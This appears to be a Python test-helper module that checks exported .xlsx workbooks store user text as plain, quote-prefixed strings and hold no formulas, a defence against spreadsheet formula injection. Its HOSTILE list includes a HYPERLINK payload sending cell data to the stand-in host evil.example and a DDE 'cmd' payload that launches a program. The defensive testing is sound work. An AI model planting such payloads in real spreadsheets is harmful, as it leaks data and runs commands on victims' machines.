"""What really ends in an .xlsx file: its sheets' XML (a formula is an <f> element) and the
cells as openpyxl reads them back, for the tests that user text stays text."""

from __future__ import annotations

import io
import zipfile

from lxml import etree
from openpyxl import load_workbook

# Each way a spreadsheet may take the start of a cell for a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+84 sản phẩm",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def formula_elements(data: bytes) -> list[str]:
    """The formulas of every sheet, as "sheet file: text" (none is expected)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(archive.read(name))
                found += [f"{name}: {f.text}" for f in root.iter("{*}f")]
    return found


def cells_holding(data: bytes, text: str) -> list:
    """The cells whose value is exactly ``text``, read back with openpyxl."""
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]


def assert_text(data: bytes, text: str) -> None:
    assert formula_elements(data) == []
    cells = cells_holding(data, text)
    assert cells, f"{text!r} is not in the workbook as written"
    for cell in cells:
        assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate
    # And any other cell the text went into, trimmed or combined with other words.
    wb = load_workbook(io.BytesIO(data))
    risky = [
        c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]
    assert [c.coordinate for c in risky if not c.quotePrefix] == []
